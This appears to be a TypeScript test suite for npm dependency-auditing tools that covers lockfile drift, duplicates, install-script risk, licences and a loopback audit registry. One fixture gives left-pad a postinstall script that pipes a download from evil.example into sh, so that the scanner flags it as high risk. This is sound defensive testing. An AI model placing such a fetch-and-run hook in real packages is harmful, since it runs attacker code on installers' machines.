// Dependency tools on a project whose package.json, lockfile and node_modules are written here,
// and npm audit run for real against a loopback registry that serves the bulk-advisory endpoint.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { gunzipSync } from 'node:zlib';
import { connectClient, testSuite, textOf } from '../helpers.js';

const lock = {
  name: 'shop',
  version: '1.0.0',
  lockfileVersion: 3,
  requires: true,
  packages: {
    '': {
      name: 'shop',
      version: '1.0.0',
      license: 'MIT',
      dependencies: { express: '^4.18.0', 'left-pad': '^1.3.0', qs: '^6.0.0' },
      devDependencies: { 'gpl-tool': '1.0.0' },
    },
    'node_modules/express': { version: '4.18.2', license: 'MIT', dependencies: { debug: '2.6.9', qs: '6.11.0' } },
    'node_modules/debug': { version: '2.6.9', license: 'MIT', dependencies: { ms: '2.0.0' } },
    'node_modules/ms': { version: '2.1.3', license: 'MIT' },
    'node_modules/debug/node_modules/ms': { version: '2.0.0', license: 'MIT' },
    'node_modules/qs': { version: '6.11.0', license: 'BSD-3-Clause' },
    'node_modules/left-pad': { version: '1.3.0', license: 'WTFPL', hasInstallScript: true },
    'node_modules/gpl-tool': { version: '1.0.0', license: 'GPL-3.0-only', dev: true },
    'node_modules/orphan': { version: '0.1.0', license: 'UNLICENSED' },
    'node_modules/native-thing': { version: '2.0.0', license: '(MIT OR GPL-2.0)', hasInstallScript: true },
  },
};
// node_modules/ms resolves for the root only; express's debug needs ms 2.0.0 (nested copy).
const files: Record<string, string> = {
  'package.json': JSON.stringify({
    name: 'shop',
    version: '1.0.0',
    license: 'MIT',
    dependencies: { express: '^4.18.0', 'left-pad': '^1.4.0', lodash: '^4.17.0' },
    devDependencies: { 'gpl-tool': '1.0.0' },
  }),
  'package-lock.json': JSON.stringify(lock),
  'node_modules/express/package.json': JSON.stringify({ name: 'express', version: '4.17.0' }),
  'node_modules/left-pad/package.json': JSON.stringify({
    name: 'left-pad',
    version: '1.3.0',
    scripts: { postinstall: 'curl -s https://evil.example/x.sh | sh' },
  }),
  'node_modules/native-thing/package.json': JSON.stringify({
    name: 'native-thing',
    version: '2.0.0',
    scripts: { install: 'node-gyp rebuild' },
  }),
};

async function call(
  client: Awaited<ReturnType<typeof connectClient>>,
  name: string,
  args: Record<string, unknown> = {},
) {
  const result = await client.callTool({ name: 'runTool', arguments: { name, arguments: args } });
  assert.equal(result.isError, undefined, textOf(result));
  return (result.structuredContent as { result: Record<string, unknown> }).result;
}

test('lockfile drift, duplicates, install scripts, licences and dependency chains', async (t) => {
  const suite = await testSuite(t, { files });
  const client = await connectClient(t, suite);
  const drift = await call(client, 'development_check_lockfile');
  const problems = (drift.problems as { name: string; problem: string }[])
    .map((p) => `${p.name}: ${p.problem.split(' (')[0]}`)
    .sort();
  assert.deepEqual(problems, [
    'express: node_modules holds a different version than the lockfile',
    'left-pad: the range changed since the lockfile was written',
    'lodash: declared in package.json but not in the lockfile',
    'qs: recorded in the lockfile root but no longer declared in package.json',
  ]);
  assert.equal(drift.inSync, false);
  assert.deepEqual(
    (drift.extraneous as string[]).sort(),
    ['node_modules/ms@2.1.3', 'node_modules/native-thing@2.0.0', 'node_modules/orphan@0.1.0'],
    'debug uses its nested ms 2.0.0, so nothing requires the top-level 2.1.3',
  );

  const duplicates = await call(client, 'development_find_duplicate_packages');
  const ms = (
    duplicates.packages as {
      name: string;
      versions: { version: string; requiredBy: string[] }[];
      dedupableTo?: string;
    }[]
  ).find((p) => p.name === 'ms');
  assert.deepEqual(
    ms?.versions.map((v) => v.version),
    ['2.1.3', '2.0.0'],
  );
  assert.deepEqual(ms?.versions[1]?.requiredBy, ['debug@2.6.9 (2.0.0)']);
  assert.equal(ms?.dedupableTo, '2.0.0', 'only debug requires ms, and 2.0.0 satisfies it');

  const scripts = await call(client, 'development_list_install_scripts');
  const byName = new Map(
    (scripts.packages as { name: string; risk: string; reasons: string[] }[]).map((p) => [p.name, p]),
  );
  assert.equal(byName.get('left-pad')?.risk, 'high');
  assert.ok(byName.get('left-pad')?.reasons.includes('downloads from the network'));
  assert.equal(byName.get('native-thing')?.risk, 'low');
  assert.equal(byName.has('express'), false);

  const licences = await call(client, 'development_list_licenses');
  assert.deepEqual(
    (licences.flagged as { name: string; category: string }[]).map((f) => `${f.name}:${f.category}`),
    ['orphan:proprietary'],
    'dev GPL excluded; MIT OR GPL counts as permissive',
  );
  const withDev = await call(client, 'development_list_licenses', { includeDev: true });
  assert.deepEqual(
    (withDev.flagged as { name: string; category: string }[]).map((f) => `${f.name}:${f.category}`),
    ['gpl-tool:strong-copyleft', 'orphan:proprietary'],
  );

  const why = await call(client, 'development_explain_dependency', { name: 'ms' });
  const copies = why.copies as { path: string; chains: string[][] }[];
  assert.deepEqual(copies.find((c) => c.path === 'node_modules/debug/node_modules/ms')?.chains, [
    ['shop', 'express@4.18.2 (^4.18.0)', 'debug@2.6.9 (2.6.9)', 'ms@2.0.0 (2.0.0)'],
  ]);
  assert.deepEqual(copies.find((c) => c.path === 'node_modules/ms')?.chains, []);
  const bad = await client.callTool({
    name: 'runTool',
    arguments: { name: 'development_explain_dependency', arguments: { name: '../etc' } },
  });
  assert.equal(bad.isError, true);
  assert.match(textOf(bad), /name/);
});

test('npm audit runs against a loopback registry, and degrades with the reason when none answers', async (t) => {
  const requests: unknown[] = [];
  const registry = createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      const raw = Buffer.concat(chunks);
      const body = (request.headers['content-encoding'] === 'gzip' ? gunzipSync(raw) : raw).toString('utf8');
      if (request.method === 'POST' && request.url?.startsWith('/-/npm/v1/security/advisories/bulk')) {
        requests.push(JSON.parse(body));
        response.setHeader('content-type', 'application/json');
        response.end(
          JSON.stringify({
            qs: [
              {
                id: 1090134,
                url: 'https://github.com/advisories/GHSA-hrpp-h998-j3pp',
                title: 'qs vulnerable to Prototype Pollution',
                severity: 'high',
                vulnerable_versions: '>=6.11.0 <6.11.1',
                cwe: ['CWE-1321'],
                cvss: { score: 7.5 },
              },
            ],
          }),
        );
        return;
      }
      response.statusCode = 404;
      response.end('{}');
    });
  });
  await new Promise<void>((resolve) => registry.listen(0, '127.0.0.1', resolve));
  t.after(() => new Promise<void>((resolve) => registry.close(() => resolve())));
  const suite = await testSuite(t, { files });
  const client = await connectClient(t, suite);
  const url = `http://127.0.0.1:${(registry.address() as AddressInfo).port}/`;
  const audit = await call(client, 'development_audit_vulnerabilities', { registry: url, timeoutSeconds: 60 });
  assert.equal(audit.status, 'ok', JSON.stringify(audit));
  const qs = (audit.vulnerabilities as { name: string; severity: string; advisories: { title: string }[] }[]).find(
    (v) => v.name === 'qs',
  );
  assert.equal(qs?.severity, 'high');
  assert.equal(qs?.advisories[0]?.title, 'qs vulnerable to Prototype Pollution');
  assert.ok(requests.length > 0, 'npm asked the loopback registry');

  const closed = createServer();
  await new Promise<void>((resolve) => closed.listen(0, '127.0.0.1', resolve));
  const deadPort = (closed.address() as AddressInfo).port;
  await new Promise<void>((resolve) => closed.close(() => resolve()));
  const offline = await call(client, 'development_audit_vulnerabilities', {
    registry: `http://127.0.0.1:${deadPort}/`,
    timeoutSeconds: 60,
  });
  assert.equal(offline.status, 'unavailable');
  assert.match(offline.reason as string, /unreachable|ECONNREFUSED/);
});
